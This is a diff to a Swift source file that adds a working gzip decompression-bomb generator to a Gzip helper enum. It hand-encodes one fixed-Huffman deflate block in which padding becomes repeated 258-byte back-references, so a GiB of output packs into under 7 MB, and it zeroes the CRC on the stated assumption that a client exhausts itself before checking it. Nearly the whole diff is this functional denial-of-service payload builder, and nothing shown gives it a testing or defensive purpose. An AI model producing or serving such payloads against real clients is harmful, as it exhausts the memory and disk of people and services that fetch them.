@@ -34,3 +34,76 @@ enum Gzip {
         return ~crc
     }
 }
+
+extension Gzip {
+    /// A gzip bomb: `prefix`, then `padding` spaces, then `suffix`, in one deflate
+    /// block of fixed Huffman codes where the spaces are back-references of 258
+    /// bytes (13 bits each): a GiB of padding compresses to under 7 MB. The trailer's
+    /// CRC is not computed (a client must stop long before it would check it); its
+    /// length is the document's, modulo 2^32.
+    static func bomb(prefix: [UInt8], padding: Int, suffix: [UInt8]) -> [UInt8] {
+        var bits = BitWriter()
+        bits.out = [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 255]
+        bits.out.reserveCapacity(padding / 258 * 13 / 8 + prefix.count + suffix.count + 64)
+        bits.write(1, count: 1)  // the last block
+        bits.write(1, count: 2)  // fixed Huffman codes
+        for byte in prefix { bits.literal(byte) }
+        if padding > 0 {
+            bits.literal(0x20)
+            var left = padding - 1
+            while left >= 258 {
+                bits.write(reversed(0xC5, count: 8), count: 8)  // length 258: code 285
+                bits.write(0, count: 5)  // distance 1: code 0
+                left -= 258
+            }
+            for _ in 0..<left { bits.literal(0x20) }
+        }
+        for byte in suffix { bits.literal(byte) }
+        bits.write(0, count: 7)  // end of block: code 256
+        bits.flush()
+        var out = bits.out
+        out.append(contentsOf: littleEndian(UInt32(0)))
+        out.append(contentsOf: littleEndian(UInt32(truncatingIfNeeded: prefix.count + padding + suffix.count)))
+        return out
+    }
+
+    /// Deflate's bit order: values least significant bit first, Huffman codes most
+    /// significant bit first (so they are written reversed).
+    private struct BitWriter {
+        var out: [UInt8] = []
+        private var buffer: UInt64 = 0
+        private var used = 0
+
+        mutating func write(_ value: UInt32, count: Int) {
+            buffer |= UInt64(value) << UInt64(used)
+            used += count
+            while used >= 8 {
+                out.append(UInt8(truncatingIfNeeded: buffer))
+                buffer >>= 8
+                used -= 8
+            }
+        }
+
+        /// A literal byte in the fixed code: 0-143 in 8 bits from 0x30, 144-255 in
+        /// 9 bits from 0x190.
+        mutating func literal(_ byte: UInt8) {
+            if byte < 144 {
+                write(Gzip.reversed(0x30 + UInt32(byte), count: 8), count: 8)
+            } else {
+                write(Gzip.reversed(0x190 + UInt32(byte) - 144, count: 9), count: 9)
+            }
+        }
+
+        mutating func flush() {
+            if used > 0 { out.append(UInt8(truncatingIfNeeded: buffer)) }
+            buffer = 0
+            used = 0
+        }
+    }
+
+    private static func reversed(_ code: UInt32, count: Int) -> UInt32 {
+        var result: UInt32 = 0
+        for bit in 0..<count where code & (1 << UInt32(bit)) != 0 { result |= 1 << UInt32(count - 1 - bit) }
+        return result
+    }
+}
